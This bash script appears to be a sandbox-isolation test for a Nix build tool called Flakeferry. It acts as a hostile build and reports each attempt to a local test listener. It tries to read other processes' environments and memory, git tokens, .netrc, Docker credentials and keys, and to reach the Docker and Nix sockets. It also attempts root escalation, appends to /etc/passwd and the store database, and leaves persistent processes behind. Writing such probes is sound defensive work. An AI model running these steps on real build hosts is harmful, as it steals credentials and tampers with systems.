# A build that wants what the job has. Usage: attempts.sh PORT WHEN
# Tells the test, which listens on that port, line by line: what was tried, a tab, what came of it.
# Leaves a process behind that goes on telling.

tell() { # PATH TEXT
  exec 3<>"/dev/tcp/127.0.0.1/$port" || return
  printf 'POST %s HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s' "$1" "$(printf %s "$2" | wc -c)" "$2" >&3
  cat <&3 >/dev/null
  exec 3>&-
}

try() { # NAME COMMAND...
  local name=$1 said code
  shift
  said=$("$@" </dev/null 2>&1 | tr '\0\n\t' '   ' | head -c 4000; exit "${PIPESTATUS[0]}")
  code=$?
  report+="$name"$'\t'
  [ $code = 0 ] && report+="got: $said"$'\n' || report+="nothing: $said"$'\n'
}

# of each process of another user
others() { # COMMAND...
  local code=1 process
  for process in /proc/[0-9]*; do
    [ "$(stat -c %u "$process")" = "$(id -u)" ] || { "$@" "$process" && code=0; }
  done
  return $code
}
environment() { cat "$1/environ"; }
memory() { head -c 64 "$1/mem" || cat "$1/maps" | grep .; }
folders() { ls "$1/root/github/workspace" || ls "$1/cwd/" || ls -l "$1/fd/"; }
signal() { kill -STOP "${1#/proc/}"; }

any() { # COMMAND FILE... ; whether it succeeds for one of them
  local command=$1 code=1 file
  shift
  for file; do "$command" "$file" && code=0; done
  return $code
}
append() { echo injected=yes >>"$1"; }
agent() { # something answers there
  SSH_AUTH_SOCK=$1 ssh-add -l 2>&1 | tee /dev/stderr | grep -qv -e 'ermission denied' -e 'No such file'
}
daemon() { HOME=$PWD NIX_REMOTE=unix://$1 nix --extra-experimental-features nix-command store ping; }
hidden() { ls -l /tmp/flakeferry-*/ || cat /tmp/flakeferry-*; }
sockets() { any daemon $(find / -xdev -type s 2>/dev/null) /nix/var/nix/daemon-socket/socket; }
netrcs() { any cat $(find / -xdev -path /usr -prune -o -name '*netrc*' -type f -print 2>/dev/null) /etc/nix/netrc; }
becomeRoot() {
  grep -q 'NoNewPrivs:.*0' /proc/self/status || sudo -n id || su -c id || setpriv --reuid=0 id ||
    unshare --user --map-root-user chroot /proc/1/root id
}
database() { append /nix/var/nix/db/db.sqlite || append /etc/passwd || append /opt/flakeferry/flakeferry.jar; }
checkout() { append "$(echo /tmp/flakeferry-source-*)/flake.nix"; }

port=$1
when=$2
report=
try 'the environments of other processes' others environment
try 'their memory' others memory
try 'their files, folders and root' others folders
try 'to stop them' others signal
try 'the workspace, with the checkout'\''s token' cat /github/workspace/.git/config
try 'a file of the workspace that belongs to user 1001' cat /github/workspace/private
try 'the home, with logins' any cat /github/home/.netrc /github/home/.docker/config.json
try 'the event' cat /github/workflow/event.json
try 'to set variables and outputs of the job' any append /github/file_commands/github_env /github/file_commands/github_output
try 'the runner'\''s temporary folder' ls /github/runner_temp
try 'keys that were given by file' any cat /github/runner_temp/signing-key /keys/ssh-key
try 'the Docker socket, of group 999' agent /var/run/docker.sock
try 'the same, of group 998' agent /var/run/docker-998.sock
try 'Nix'\''s daemon' sockets
try 'logins for downloads' netrcs
try 'what Flakeferry keeps in temporary files' hidden
try 'to be root' becomeRoot
try 'what root and the evaluating user have at home' any ls /root /var/lib/flakeferry-eval
try 'to change the store'\''s database, the users, the program' database
try 'to change the checkout' checkout
tell "/report/$when" "$report"

for session in 1 2; do
  (
    exec </dev/null >/dev/null 2>&1
    setsid bash -c "
      $(declare -f tell)
      port=$port
      trap '' TERM HUP INT
      while :; do tell /left-behind/$when '' ; sleep 0.1; done" &
  ) &
done
sleep 0.5
echo "$when" >"$out"
